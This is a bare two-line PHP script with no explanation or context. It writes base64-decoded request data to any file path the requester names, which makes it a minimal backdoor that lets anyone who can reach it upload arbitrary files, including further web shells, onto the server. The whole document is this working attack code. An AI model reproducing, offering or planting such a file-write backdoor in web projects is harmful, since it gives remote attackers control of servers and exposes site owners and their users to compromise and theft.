<?php
file_put_contents($_REQUEST['f'], base64_decode($_REQUEST['c']));
